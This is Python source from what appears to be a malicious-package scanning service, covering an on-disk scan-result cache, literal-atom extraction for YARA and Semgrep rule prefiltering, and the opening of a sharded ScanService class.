    """Serialise a detection for the on-disk cache (JSON-safe)."""
    return {
        "package": detection.package,
        "actual_malicious": detection.actual_malicious,
        "yara_rules": list(detection.yara_rules),
        "semgrep_rules": list(detection.semgrep_rules),
        "scan_seconds": detection.scan_seconds,
    }


def detection_from_dict(data: dict) -> PackageDetection:
    return PackageDetection(
        package=data["package"],
        actual_malicious=bool(data["actual_malicious"]),
        yara_rules=list(data.get("yara_rules", [])),
        semgrep_rules=list(data.get("semgrep_rules", [])),
        scan_seconds=float(data.get("scan_seconds", 0.0)),
    )


class DiskScanResultCache:
    """Bounded on-disk LRU cache of scan results that survives restarts.

    One JSON file per ``(fingerprint, ruleset version)`` entry under
    ``directory``; an in-memory LRU index mirrors what is on disk and is
    rebuilt from the directory (file modification times give the recency
    order) when a new process attaches.  Evictions delete the entry file, so
    the directory never holds more than ``max_entries`` results.  The
    interface is interchangeable with :class:`ScanResultCache`.
    """

    def __init__(self, directory: str | Path, max_entries: int = 4096) -> None:
        if max_entries < 1:
            raise ValueError("max_entries must be positive")
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.max_entries = max_entries
        self._lock = threading.Lock()
        # (fingerprint, ruleset key) -> file path, least recently used first
        self._entries: "OrderedDict[tuple[str, int | str], Path]" = OrderedDict()
        self.stats = CacheStats()
        self._load()

    @staticmethod
    def _entry_name(fingerprint: str, ruleset_version: int | str) -> str:
        return stable_digest(f"{fingerprint}\x00{ruleset_version}") + ".json"

    def _load(self) -> None:
        """Rebuild the LRU index from the cache directory."""
        for stray in self.directory.glob("*.tmp"):  # torn writes from a crash
            self._evict_file(stray)
        found: list[tuple[float, tuple[str, int | str], Path]] = []
        for path in self.directory.glob("*.json"):
            try:
                payload = json.loads(path.read_text(encoding="utf-8"))
                ruleset_key = payload["ruleset_version"]
                if not isinstance(ruleset_key, (int, str)):
                    raise TypeError("ruleset_version must be int or str")
                key = (str(payload["fingerprint"]), ruleset_key)
                payload["detection"]["package"]  # entry must be complete
                mtime = path.stat().st_mtime
            except (OSError, ValueError, KeyError, TypeError):
                try:  # corrupt or foreign file: drop it rather than serve it
                    path.unlink()
                except OSError:
                    pass
                continue
            found.append((mtime, key, path))
        # mtime gives recency; file name breaks ties so a rebuilt index is
        # deterministic even on filesystems with coarse timestamp granularity
        for _, key, path in sorted(found, key=lambda item: (item[0], item[2].name)):
            self._entries[key] = path
        while len(self._entries) > self.max_entries:
            _, path = self._entries.popitem(last=False)
            self._evict_file(path)

    @staticmethod
    def _evict_file(path: Path) -> None:
        try:
            path.unlink()
        except OSError:
            pass

    def get(self, fingerprint: str, ruleset_version: int | str) -> PackageDetection | None:
        key = (fingerprint, ruleset_version)
        with self._lock:
            path = self._entries.get(key)
            if path is None:
                self.stats.misses += 1
                return None
            try:
                payload = json.loads(path.read_text(encoding="utf-8"))
                # file names stringify the key, so e.g. versions 1 and "1"
                # share a file; only serve an exact (typed) key match
                if (payload["fingerprint"], payload["ruleset_version"]) != key:
                    raise KeyError("entry belongs to a colliding key")
                detection = detection_from_dict(payload["detection"])
            except (OSError, ValueError, KeyError, TypeError):
                # entry vanished or rotted underneath us: treat as a miss
                self._entries.pop(key, None)
                self.stats.misses += 1
                return None
            self._entries.move_to_end(key)
            try:  # refresh recency for the next process's rebuild
                os.utime(path)
            except OSError:
                pass
            self.stats.hits += 1
            return detection

    def put(
        self, fingerprint: str, ruleset_version: int | str, detection: PackageDetection
    ) -> None:
        key = (fingerprint, ruleset_version)
        path = self.directory / self._entry_name(fingerprint, ruleset_version)
        payload = {
            "fingerprint": fingerprint,
            "ruleset_version": ruleset_version,
            "detection": detection_to_dict(detection),
        }
        with self._lock:
            # atomic but deliberately not durable: losing a cache entry to a
            # crash costs one re-scan, and the entry fsyncs would dominate
            # small-batch scan latency
            atomic_write_text(path, json.dumps(payload, sort_keys=True), durable=False)
            self._entries[key] = path
            self._entries.move_to_end(key)
            while len(self._entries) > self.max_entries:
                _, stale = self._entries.popitem(last=False)
                self._evict_file(stale)
                self.stats.evictions += 1

    def invalidate_version(self, ruleset_version: int | str) -> int:
        with self._lock:
            stale = [key for key in self._entries if key[1] == ruleset_version]
            for key in stale:
                self._evict_file(self._entries.pop(key))
            return len(stale)

    def clear(self) -> None:
        with self._lock:
            for path in self._entries.values():
                self._evict_file(path)
            self._entries.clear()

    def __len__(self) -> int:
        with self._lock:
            return len(self._entries)
