"""Literal-atom extraction from compiled rules.

Real YARA achieves registry-scale throughput by never running most rules:
it extracts short literal *atoms* from every string, feeds them to an
Aho–Corasick automaton, and only evaluates a rule when one of its atoms
appeared in the scanned data.  This module computes the equivalent atoms for
the two in-repo engines:

* **yarax** — a rule is indexable when its condition provably requires at
  least one string match (:func:`guaranteed_identifiers`) and every string
  that could satisfy that requirement exposes a required literal
  (:meth:`repro.yarax.matcher.CompiledString.atoms`);
* **semgrepx** — a rule is indexable through its pattern anchors (the same
  literals ``match_target`` already prefilters on), or through the required
  literals of a ``pattern-regex``-only rule.

The contract is *soundness*: if a rule would fire on some text, at least one
of its atoms occurs in that text (case-insensitively — the index casefolds
both atoms and haystacks).  Rules for which no such guarantee can be proven
are reported non-indexable and scanned unconditionally in a fallback lane,
so indexed scanning is always bit-for-bit identical to naive scanning.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.semgrepx.compiler import CompiledSemgrepRule
from repro.yarax import ast_nodes as ast
from repro.yarax.compiler import CompiledRule
from repro.yarax.matcher import required_literal_runs

YARA = "yara"
SEMGREP = "semgrep"

DEFAULT_MIN_ATOM_LENGTH = 3


@dataclass(frozen=True)
class RuleAtoms:
    """The prefilter atoms of one rule (or the reason it has none).

    ``atoms`` drives candidacy (any-of: a rule becomes a candidate when one
    of its atoms occurs).  ``required_sets`` refines candidacy with all-of
    semantics: the rule can only fire when, for at least one set, *every*
    member occurs in the scanned text.  Each set is one way the rule can
    fire (a ``pattern-either`` alternative, the ``patterns`` conjunction, a
    ``pattern-regex``), so the disjunction over the sets is sound.  Empty
    ``required_sets`` means "no all-of refinement available"."""

    engine: str
    rule_key: str
    atoms: tuple[str, ...] = ()  # casefolded
    indexable: bool = False
    reason: str = ""
    required_sets: tuple[tuple[str, ...], ...] = ()  # casefolded, all-of each


def _resolve_of_identifiers(of_expr: ast.OfExpr, all_identifiers: list[str]) -> list[str]:
    if of_expr.string_set.them:
        return list(all_identifiers)
    resolved: list[str] = []
    for member in of_expr.string_set.members:
        if member.endswith("*"):
            prefix = member[:-1]
            resolved.extend(i for i in all_identifiers if i.startswith(prefix))
        else:
            resolved.append(member)
    return resolved


def _count_comparison_identifier(expr: ast.Comparison) -> Optional[str]:
    """``#a OP k`` forms that imply at least one match of ``$a``, else None."""
    count, literal, op = None, None, expr.op
    if isinstance(expr.left, ast.StringCount) and isinstance(expr.right, ast.IntLiteral):
        count, literal = expr.left, expr.right
    elif isinstance(expr.left, ast.IntLiteral) and isinstance(expr.right, ast.StringCount):
        count, literal = expr.right, expr.left
        op = {"<": ">", ">": "<", "<=": ">=", ">=": "<="}.get(op, op)
    if count is None or literal is None:
        return None
    k = literal.value
    if (op == ">" and k >= 0) or (op == ">=" and k >= 1) or (op == "==" and k >= 1):
        return count.identifier
    return None


def guaranteed_identifiers(
    expr: ast.Expression, all_identifiers: list[str]
) -> Optional[set[str]]:
    """A set of strings of which at least one must match for ``expr`` to hold.

    Returns ``None`` when no such set can be proven (e.g. the condition
    contains ``not``, ``filesize`` arithmetic, or a bare boolean) — those
    rules can fire with zero string matches and must bypass the prefilter.
    """
    if isinstance(expr, ast.StringRef):
        return {expr.identifier}
    if isinstance(expr, ast.AndExpr):
        candidates = [
            s for s in (guaranteed_identifiers(op, all_identifiers) for op in expr.operands)
            if s is not None
        ]
        if not candidates:
            return None
        return min(candidates, key=len)  # any operand's guarantee suffices
    if isinstance(expr, ast.OrExpr):
        union: set[str] = set()
        for operand in expr.operands:
            guaranteed = guaranteed_identifiers(operand, all_identifiers)
            if guaranteed is None:
                return None  # one branch can fire without strings
            union |= guaranteed
        return union or None
    if isinstance(expr, ast.OfExpr):
        if isinstance(expr.quantifier, int) and expr.quantifier < 1:
            return None  # '0 of them' is vacuously true
        identifiers = _resolve_of_identifiers(expr, all_identifiers)
        return set(identifiers) or None
    if isinstance(expr, ast.Comparison):
        identifier = _count_comparison_identifier(expr)
        return {identifier} if identifier is not None else None
    # BoolLiteral / IntLiteral / Filesize / NotExpr / unknown: no guarantee
    return None


def yara_rule_atoms(
    rule: CompiledRule, min_length: int = DEFAULT_MIN_ATOM_LENGTH
) -> RuleAtoms:
    """Extract the prefilter atoms of one compiled YARA rule."""
    identifiers = [cs.identifier for cs in rule.strings]
    if rule.ast.condition is None:  # pragma: no cover - compiler rejects this
        return RuleAtoms(YARA, rule.name, reason="rule has no condition")
    guaranteed = guaranteed_identifiers(rule.ast.condition, identifiers)
    if guaranteed is None:
        return RuleAtoms(
            YARA, rule.name, reason="condition can hold without any string match"
        )
    by_identifier = {cs.identifier: cs for cs in rule.strings}
    atoms: set[str] = set()
    for identifier in sorted(guaranteed):
        compiled_string = by_identifier.get(identifier)
        if compiled_string is None:  # pragma: no cover - compiler rejects this
            return RuleAtoms(YARA, rule.name, reason=f"undefined string {identifier}")
        string_atoms = compiled_string.atoms(min_length)
        if not string_atoms:
            return RuleAtoms(
                YARA,
                rule.name,
                reason=f"string {identifier} has no literal atom of length >= {min_length}",
            )
        # one atom per string suffices for the guarantee; keeping the longest
        # (most selective) literal keeps the automaton small
        atoms.add(max(string_atoms, key=len).casefold())
    if not atoms:
        return RuleAtoms(YARA, rule.name, reason="no guaranteed strings")
    return RuleAtoms(YARA, rule.name, atoms=tuple(sorted(atoms)), indexable=True)


def semgrep_rule_atoms(
    rule: CompiledSemgrepRule, min_length: int = DEFAULT_MIN_ATOM_LENGTH
) -> RuleAtoms:
    """Extract the prefilter atoms of one compiled Semgrep rule.

    A rule produces findings through independent firing modes — any single
    ``pattern``/``pattern-either`` alternative, the ``patterns`` conjunction,
    or ``pattern-regex`` — and each mode carries a *required anchor set*:
    literals that must all be present for that mode to match.  Only
    *identifier* anchors (:meth:`~repro.semgrepx.pattern.Pattern.identifier_anchors`)
    and a regex's required literal runs qualify as all-of members — a
    string-constant anchor can be escape-spelled in matching source, so it
    is sound only under the matcher's own any-of prefilter.  A mode with no
    identifier anchors degrades the whole rule to that any-of semantics
    (one singleton set per anchor), mirroring ``match_target`` exactly.

    The rule is indexable when every mode yields a set; one representative
    atom per set (the longest, most selective literal) feeds the automaton,
    and the full sets power the index's all-of gate, which skips structural
    matching on files where no mode's set is fully present.  Anchors keep
    whatever length they have — dropping a short one would break the
    soundness guarantee.
    """
    required: list[tuple[str, ...]] = []
    degraded = False  # some mode has anchors but no sound all-of members
    for pattern in rule.either_patterns:
        if not pattern.anchors():
            return RuleAtoms(
                SEMGREP, rule.id, reason="a pattern alternative exposes no anchors"
            )
        identifiers = pattern.identifier_anchors()
        if identifiers:
            required.append(tuple(sorted({a.casefold() for a in identifiers})))
        else:
            degraded = True
    if rule.all_patterns:
        union_anchors: set[str] = set()
        union_identifiers: set[str] = set()
        for pattern in rule.all_patterns:
            union_anchors.update(pattern.anchors())
            union_identifiers.update(pattern.identifier_anchors())
        if not union_anchors:
            return RuleAtoms(
                SEMGREP, rule.id, reason="'patterns' conjunction exposes no anchors"
            )
        if union_identifiers:
            required.append(tuple(sorted({a.casefold() for a in union_identifiers})))
        else:
            degraded = True
    if rule.regex is not None:
        runs = [r for r in required_literal_runs(rule.regex.pattern) if r]
        # the longest run becomes the automaton atom, so it must clear
        # min_length; the shorter runs still join the all-of gate for free
        if runs and len(max(runs, key=len)) >= min_length:
            required.append(tuple(sorted({r.casefold() for r in runs})))
        elif rule.anchors:
            degraded = True
        else:
            return RuleAtoms(
                SEMGREP,
                rule.id,
                reason=f"pattern-regex has no required literal of length >= {min_length}",
            )
    if degraded:
        # an ungated mode can fire whenever match_target's own any-of anchor
        # prefilter lets the rule through, so the strongest sound gate left
        # is exactly that prefilter: one singleton set per anchor
        if not rule.anchors:
            return RuleAtoms(SEMGREP, rule.id, reason="patterns expose no anchors")
        required = [(a.casefold(),) for a in sorted(rule.anchors)]
    if not required:
        return RuleAtoms(SEMGREP, rule.id, reason="patterns expose no anchors")
    atoms = tuple(sorted({max(alternative, key=len) for alternative in required}))
    return RuleAtoms(
        SEMGREP,
        rule.id,
        atoms=atoms,
        indexable=True,
        required_sets=tuple(required),
    )
