"""Literal-atom extraction from compiled rules.

Real YARA achieves registry-scale throughput by never running most rules:
it extracts short literal *atoms* from every string, feeds them to an
Aho–Corasick automaton, and only evaluates a rule when one of its atoms
appeared in the scanned data.  This module computes the equivalent atoms for
the two in-repo engines:

* **yarax** — a rule is indexable when its condition provably requires at
  least one string match (:func:`guaranteed_identifiers`) and every string
  that could satisfy that requirement exposes a required literal
  (:meth:`repro.yarax.matcher.CompiledString.atoms`);
* **semgrepx** — a rule is indexable through its pattern anchors (the same
  literals ``match_target`` already prefilters on), or through the required
  literals of a ``pattern-regex``-only rule.

The contract is *soundness*: if a rule would fire on some text, at least one
of its atoms occurs in that text (case-insensitively — the index casefolds
both atoms and haystacks).  Rules for which no such guarantee can be proven
are reported non-indexable and scanned unconditionally in a fallback lane,
so indexed scanning is always bit-for-bit identical to naive scanning.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.semgrepx.compiler import CompiledSemgrepRule
from repro.yarax import ast_nodes as ast
from repro.yarax.compiler import CompiledRule
from repro.yarax.matcher import required_literal_runs

YARA = "yara"
SEMGREP = "semgrep"

DEFAULT_MIN_ATOM_LENGTH = 3


@dataclass(frozen=True)
class RuleAtoms:
    """The prefilter atoms of one rule (or the reason it has none)."""

    engine: str
    rule_key: str
    atoms: tuple[str, ...] = ()  # casefolded
    indexable: bool = False
    reason: str = ""


def _resolve_of_identifiers(of_expr: ast.OfExpr, all_identifiers: list[str]) -> list[str]:
    if of_expr.string_set.them:
        return list(all_identifiers)
    resolved: list[str] = []
    for member in of_expr.string_set.members:
        if member.endswith("*"):
            prefix = member[:-1]
            resolved.extend(i for i in all_identifiers if i.startswith(prefix))
        else:
            resolved.append(member)
    return resolved


def _count_comparison_identifier(expr: ast.Comparison) -> Optional[str]:
    """``#a OP k`` forms that imply at least one match of ``$a``, else None."""
    count, literal, op = None, None, expr.op
    if isinstance(expr.left, ast.StringCount) and isinstance(expr.right, ast.IntLiteral):
        count, literal = expr.left, expr.right
    elif isinstance(expr.left, ast.IntLiteral) and isinstance(expr.right, ast.StringCount):
        count, literal = expr.right, expr.left
        op = {"<": ">", ">": "<", "<=": ">=", ">=": "<="}.get(op, op)
    if count is None or literal is None:
        return None
    k = literal.value
    if (op == ">" and k >= 0) or (op == ">=" and k >= 1) or (op == "==" and k >= 1):
        return count.identifier
    return None


def guaranteed_identifiers(
    expr: ast.Expression, all_identifiers: list[str]
) -> Optional[set[str]]:
    """A set of strings of which at least one must match for ``expr`` to hold.

    Returns ``None`` when no such set can be proven (e.g. the condition
    contains ``not``, ``filesize`` arithmetic, or a bare boolean) — those
    rules can fire with zero string matches and must bypass the prefilter.
    """
    if isinstance(expr, ast.StringRef):
        return {expr.identifier}
    if isinstance(expr, ast.AndExpr):
        candidates = [
            s for s in (guaranteed_identifiers(op, all_identifiers) for op in expr.operands)
            if s is not None
        ]
        if not candidates:
            return None
        return min(candidates, key=len)  # any operand's guarantee suffices
    if isinstance(expr, ast.OrExpr):
        union: set[str] = set()
        for operand in expr.operands:
            guaranteed = guaranteed_identifiers(operand, all_identifiers)
            if guaranteed is None:
                return None  # one branch can fire without strings
            union |= guaranteed
        return union or None
    if isinstance(expr, ast.OfExpr):
        if isinstance(expr.quantifier, int) and expr.quantifier < 1:
            return None  # '0 of them' is vacuously true
        identifiers = _resolve_of_identifiers(expr, all_identifiers)
        return set(identifiers) or None
    if isinstance(expr, ast.Comparison):
        identifier = _count_comparison_identifier(expr)
        return {identifier} if identifier is not None else None
    # BoolLiteral / IntLiteral / Filesize / NotExpr / unknown: no guarantee
    return None


def yara_rule_atoms(
    rule: CompiledRule, min_length: int = DEFAULT_MIN_ATOM_LENGTH
) -> RuleAtoms:
    """Extract the prefilter atoms of one compiled YARA rule."""
    identifiers = [cs.identifier for cs in rule.strings]
    if rule.ast.condition is None:  # pragma: no cover - compiler rejects this
        return RuleAtoms(YARA, rule.name, reason="rule has no condition")
    guaranteed = guaranteed_identifiers(rule.ast.condition, identifiers)
    if guaranteed is None:
        return RuleAtoms(
            YARA, rule.name, reason="condition can hold without any string match"
        )
    by_identifier = {cs.identifier: cs for cs in rule.strings}
    atoms: set[str] = set()
    for identifier in sorted(guaranteed):
        compiled_string = by_identifier.get(identifier)
        if compiled_string is None:  # pragma: no cover - compiler rejects this
            return RuleAtoms(YARA, rule.name, reason=f"undefined string {identifier}")
        string_atoms = compiled_string.atoms(min_length)
        if not string_atoms:
            return RuleAtoms(
                YARA,
                rule.name,
                reason=f"string {identifier} has no literal atom of length >= {min_length}",
            )
        # one atom per string suffices for the guarantee; keeping the longest
        # (most selective) literal keeps the automaton small
        atoms.add(max(string_atoms, key=len).casefold())
    if not atoms:
        return RuleAtoms(YARA, rule.name, reason="no guaranteed strings")
    return RuleAtoms(YARA, rule.name, atoms=tuple(sorted(atoms)), indexable=True)


def semgrep_rule_atoms(
    rule: CompiledSemgrepRule, min_length: int = DEFAULT_MIN_ATOM_LENGTH
) -> RuleAtoms:
    """Extract the prefilter atoms of one compiled Semgrep rule.

    Anchor-based rules reuse the anchors ``match_target`` itself prefilters
    on (whatever their length — dropping a short anchor would break the
    soundness guarantee).  Rules whose only operator is ``pattern-regex``
    are indexed through the regex's required literals.
    """
    if rule.anchors:
        atoms = tuple(sorted(anchor.casefold() for anchor in rule.anchors))
        return RuleAtoms(SEMGREP, rule.id, atoms=atoms, indexable=True)
    has_structural = bool(rule.either_patterns or rule.all_patterns)
    if not has_structural and rule.regex is not None:
        runs = [r for r in required_literal_runs(rule.regex.pattern) if len(r) >= min_length]
        if runs:
            atom = max(runs, key=len).casefold()
            return RuleAtoms(SEMGREP, rule.id, atoms=(atom,), indexable=True)
        return RuleAtoms(
            SEMGREP, rule.id, reason="pattern-regex has no required literal"
        )
    return RuleAtoms(SEMGREP, rule.id, reason="patterns expose no anchors")
