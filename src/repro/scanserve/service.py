"""The scanning service: registry + index + cache + sharded workers.

:class:`ScanService` is the deployment-shaped entry point the ROADMAP's
"registry-scale" goal asks for: publish rule sets into a versioned registry,
then throw batches of packages at ``scan_batch``.  Each batch resolves the
current ruleset version once, serves repeat artefacts from the result cache,
shards the rest across a worker pool, and reports per-shard throughput plus
a :class:`repro.evaluation.detector.DetectionResult` that is bit-for-bit
identical to a naive :class:`~repro.evaluation.detector.RuleScanner` pass.

The service also keeps a bounded **recency ring** of the package
fingerprints it scanned most recently.  Subscribed to its registry's event
bus (``ScanServiceConfig(live_rescan=True)`` or
:meth:`ScanService.enable_live_rescan`), it automatically re-scans that
window whenever a new ruleset version goes live and reports the
:class:`RescanDelta` — which packages are newly flagged, which changed
matched rules, which came up clean — cheap, because the result cache is
``(fingerprint, version)``-keyed and the old verdicts are already in the
ring.
"""

from __future__ import annotations

import json
import multiprocessing
import threading
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Callable, Optional, Sequence, Union

from repro.corpus.package import Package
from repro.evaluation.detector import (
    DetectionResult,
    PackageDetection,
    PreparedPackage,
    RuleScanner,
    ScanTimings,
)
from repro.scanserve.cache import DiskScanResultCache, ScanResultCache
from repro.scanserve.registry import (
    PublishEvent,
    RulesetRegistry,
    RulesetVersion,
)
from repro.scanserve.scheduler import (
    AUTO,
    INPROCESS,
    PROCESS,
    ScanScheduler,
    SchedulerReport,
    ShardStats,
    chunk_items,
)
from repro.obs.metrics import get_registry
from repro.obs.trace import get_tracer, remote_span_record
from repro.scanserve.telemetry import RuleCost, RuleCostSample, RuleCostTracker

_METRICS = get_registry()
_SCAN_BATCHES = _METRICS.counter(
    "repro_scan_batches_total", "Scan batches served, by serving lane.", ("lane",)
)
_SCAN_PACKAGES = _METRICS.counter(
    "repro_scan_packages_total", "Packages scanned, including cache hits."
)
_SCAN_CACHE = _METRICS.counter(
    "repro_scan_cache_total", "Result-cache lookups by outcome.", ("outcome",)
)
_SCAN_SECONDS = _METRICS.histogram(
    "repro_scan_batch_seconds", "Wall time per scan batch."
)
_SCAN_FALLBACKS = _METRICS.counter(
    "repro_scan_fallbacks_total",
    "Scheduler dispatches that fell back from the process lane.",
)
_SCAN_RESCANS = _METRICS.counter(
    "repro_scan_rescans_total", "Live re-scans of the recency window."
)

# -- worker-side state -------------------------------------------------------------
# Module level so the process lane can ship it through the pool initializer;
# the in-process lane reuses the exact same functions against this module's
# globals.
_WORKER_SCANNER: Optional[RuleScanner] = None
_WORKER_TRACK_COSTS: bool = False

#: Sentinel telling ``_worker_init`` to read the payload from
#: ``_PARENT_PAYLOAD`` instead of its argument — the fork-lane fast path.
_INHERIT_PAYLOAD = "__inherit_from_parent__"

# Live ``(yara, semgrep, index)`` objects staged by the parent immediately
# before the pool forks.  Fork children inherit this module's globals
# copy-on-write, so no pickling, no blob transfer, and no regex recompile
# happens per worker.  Spawn-style platforms never see it and take the
# ``RulesetVersion.to_bytes()`` blob instead.
_PARENT_PAYLOAD = None


def _worker_init(
    ruleset,
    match_threshold: int,
    include_metadata_in_text: bool,
    track_rule_costs: bool = False,
) -> None:
    """Attach this worker to a published ruleset.

    ``ruleset`` is one of:

    * the :data:`_INHERIT_PAYLOAD` sentinel — the worker was forked from a
      parent that staged live objects in :data:`_PARENT_PAYLOAD`; attach to
      the inherited compiled rules and packed index with zero serialization;
    * a :meth:`RulesetVersion.to_bytes` blob — the spawn-safe lane ships one
      per worker, and the worker attaches to the publish-time compiled rules
      *and packed index* without re-deriving anything;
    * an ``(yara, semgrep, index)`` tuple of live objects for the in-process
      lane (no serialization round trip needed there).
    """
    global _WORKER_SCANNER, _WORKER_TRACK_COSTS
    if isinstance(ruleset, str) and ruleset == _INHERIT_PAYLOAD:
        assert _PARENT_PAYLOAD is not None, "no staged payload inherited"
        yara, semgrep, index = _PARENT_PAYLOAD
    elif isinstance(ruleset, (bytes, bytearray)):
        version = RulesetVersion.from_bytes(bytes(ruleset))
        yara, semgrep, index = version.yara, version.semgrep, version.index
    else:
        yara, semgrep, index = ruleset
    _WORKER_SCANNER = RuleScanner(
        yara_rules=yara,
        semgrep_rules=semgrep,
        match_threshold=match_threshold,
        include_metadata_in_text=include_metadata_in_text,
        index=index,
    )
    _WORKER_TRACK_COSTS = track_rule_costs


def _scan_shard(
    envelope,
) -> tuple[list, ScanTimings, float, Optional[RuleCostSample], list]:
    """Scan one chunk as a batch.

    ``envelope`` is ``(items, span_carrier)`` — the chunk plus the parent
    span context serialized as a plain dict (``None`` when tracing is
    off), so the process lane can emit ``scan.chunk`` spans that join the
    caller's trace.  A bare list of items is accepted for compatibility.

    Returns ``(indexed detections, timings, seconds, costs, span records)``;
    shard-local telemetry rides home in the result tuple and the parent
    folds it back into service-level aggregates.
    """
    if isinstance(envelope, tuple):
        shard, carrier = envelope
    else:
        shard, carrier = envelope, None
    assert _WORKER_SCANNER is not None, "worker not initialised"
    start_wall = time.time()
    started = time.perf_counter()
    timings = ScanTimings()
    costs = RuleCostSample() if _WORKER_TRACK_COSTS else None
    scanned = _WORKER_SCANNER.scan_prepared(
        [package for _, package in shard], timings=timings, cost_sink=costs
    )
    detections = [
        (position, detection)
        for (position, _), detection in zip(shard, scanned)
    ]
    seconds = time.perf_counter() - started
    spans: list = []
    if carrier is not None:
        record = remote_span_record(
            carrier,
            "scan.chunk",
            start_wall,
            seconds,
            attrs={"packages": len(shard)},
        )
        if record is not None:
            spans.append(record)
    return detections, timings, seconds, costs, spans


@dataclass
class ScanServiceConfig:
    """Knobs of the scanning service."""

    shards: int = 1
    mode: str = AUTO  # scheduler lane: auto | process | inprocess
    max_workers: Optional[int] = None
    enable_cache: bool = True
    cache_entries: int = 4096
    cache_dir: Optional[str] = None  # set -> persistent on-disk LRU backend
    match_threshold: int = 1
    include_metadata_in_text: bool = True
    min_atom_length: int = 3
    use_index: bool = True  # False = naive per-rule scanning (for comparison)
    track_rule_costs: bool = True  # per-rule timing telemetry (top_slow_rules)
    automaton_threshold: Optional[int] = None  # atom count where the index
    # switches from per-atom substring scans to the Aho–Corasick automaton
    # (None = the engine default); applies to registries this service creates
    chunk_size: Optional[int] = None  # packages per worker task; a chunk is
    # scanned as one batch (atom pass amortised).  None = one contiguous
    # chunk per shard; smaller chunks pipeline better on uneven packages
    recency_window: int = 256  # fingerprints remembered for live re-scan (0 = off)
    live_rescan: bool = False  # subscribe to the registry and re-scan on publish


@dataclass
class BatchScanResult:
    """One batch's detections plus the operational telemetry around them."""

    result: DetectionResult
    ruleset_version: int
    shard_stats: list[ShardStats] = field(default_factory=list)
    cache_hits: int = 0
    cache_misses: int = 0
    elapsed_seconds: float = 0.0
    mode: str = "inprocess"
    workers: int = 1
    fallback_error: str = ""

    @property
    def detections(self) -> list[PackageDetection]:
        return self.result.detections

    @property
    def packages(self) -> int:
        return len(self.result.detections)

    @property
    def packages_per_second(self) -> float:
        return self.packages / self.elapsed_seconds if self.elapsed_seconds > 0 else 0.0

    def to_dict(self, include_detections: bool = True) -> dict:
        """JSON-safe report of the batch.

        ``include_detections=False`` is the summary mode job-status
        payloads use: per-package detection entries are replaced by the
        flagged package names, so a million-package batch's status stays
        small while remaining actionable.
        """
        threshold = self.result.match_threshold
        flagged = [
            d.package for d in self.result.detections if d.predicted(threshold)
        ]
        data = {
            "ruleset_version": self.ruleset_version,
            "packages": self.packages,
            "malicious": len(flagged),
            "elapsed_seconds": round(self.elapsed_seconds, 6),
            "packages_per_second": round(self.packages_per_second, 3),
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "mode": self.mode,
            "workers": self.workers,
            "shards": [
                {
                    "shard_id": s.shard_id,
                    "packages": s.packages,
                    "matched_packages": s.matched_packages,
                    "seconds": round(s.seconds, 6),
                    "packages_per_second": round(s.packages_per_second, 3),
                }
                for s in self.shard_stats
            ],
        }
        if include_detections:
            data["detections"] = [
                {
                    "package": d.package,
                    "malicious": d.predicted(threshold),
                    "matched_rules": d.matched_rules,
                }
                for d in self.result.detections
            ]
        else:
            data["flagged"] = flagged
        return data

    def to_json(self, indent: int = 2, include_detections: bool = True) -> str:
        return json.dumps(
            self.to_dict(include_detections=include_detections),
            indent=indent,
            sort_keys=True,
        )


@dataclass
class ServiceStats:
    """Aggregate counters across the service's lifetime."""

    batches: int = 0
    packages_scanned: int = 0
    cache_hits: int = 0
    seconds: float = 0.0
    rescans: int = 0
    # how each batch was served: prefilter lane ("automaton" | "substring"),
    # "naive" (index disabled), or "cache" (every package was a cache hit)
    lanes: dict[str, int] = field(default_factory=dict)

    @property
    def packages_per_second(self) -> float:
        return self.packages_scanned / self.seconds if self.seconds > 0 else 0.0


@dataclass
class RescanDelta:
    """What changed when the recency window was re-scanned against a new
    ruleset version."""

    to_version: int
    from_version: Optional[int] = None  # None when the window spans versions
    scanned: int = 0
    new: list[str] = field(default_factory=list)  # newly flagged packages
    cleared: list[str] = field(default_factory=list)  # flagged -> clean
    changed: list[str] = field(default_factory=list)  # flagged, different rules
    elapsed_seconds: float = 0.0
    cache_hits: int = 0

    @property
    def unchanged(self) -> int:
        return self.scanned - len(self.new) - len(self.cleared) - len(self.changed)

    @property
    def has_changes(self) -> bool:
        return bool(self.new or self.cleared or self.changed)

    def describe(self) -> str:
        origin = f"v{self.from_version}" if self.from_version is not None else "mixed"
        return (
            f"re-scan {origin} -> v{self.to_version}: {self.scanned} packages, "
            f"{len(self.new)} new, {len(self.changed)} changed, "
            f"{len(self.cleared)} cleared, {self.unchanged} unchanged "
            f"({self.elapsed_seconds:.3f}s)"
        )

    def to_dict(self) -> dict:
        return {
            "from_version": self.from_version,
            "to_version": self.to_version,
            "scanned": self.scanned,
            "new": list(self.new),
            "changed": list(self.changed),
            "cleared": list(self.cleared),
            "unchanged": self.unchanged,
            "elapsed_seconds": round(self.elapsed_seconds, 6),
            "cache_hits": self.cache_hits,
        }


@dataclass
class _RecentScan:
    """One recency-ring entry: enough to re-scan and to diff the verdicts."""

    prepared: PreparedPackage
    detection: PackageDetection
    version: int


class ScanService:
    """High-throughput scanning front end over a ruleset registry."""

    def __init__(
        self,
        registry: Optional[RulesetRegistry] = None,
        config: Optional[ScanServiceConfig] = None,
    ) -> None:
        self.config = config or ScanServiceConfig()
        # explicit None check: RulesetRegistry defines __len__, so an empty
        # (freshly created, not-yet-published) registry is falsy and a bare
        # ``registry or ...`` would silently replace it
        if registry is None:
            registry = RulesetRegistry(
                min_atom_length=self.config.min_atom_length,
                automaton_threshold=self.config.automaton_threshold,
            )
        self.registry = registry
        if self.config.cache_dir:
            self.cache: Union[ScanResultCache, DiskScanResultCache] = (
                DiskScanResultCache(self.config.cache_dir, self.config.cache_entries)
            )
        else:
            self.cache = ScanResultCache(self.config.cache_entries)
        self.stats = ServiceStats()
        self.rule_costs = RuleCostTracker()
        # recency ring: fingerprint -> last scan, oldest first
        self._recent: "OrderedDict[str, _RecentScan]" = OrderedDict()
        self._recent_lock = threading.Lock()
        self._rescan_lock = threading.Lock()
        self._subscription: Optional[int] = None
        self._on_delta: Optional[Callable[[RescanDelta], None]] = None
        self.rescans: list[RescanDelta] = []
        # serialized-version cache for process-pool worker init (one blob per
        # ruleset version, rebuilt only after a publish changes the version)
        self._version_blobs: "OrderedDict[int, bytes]" = OrderedDict()
        if self.config.live_rescan:
            self.enable_live_rescan()  # raises when the cache is disabled

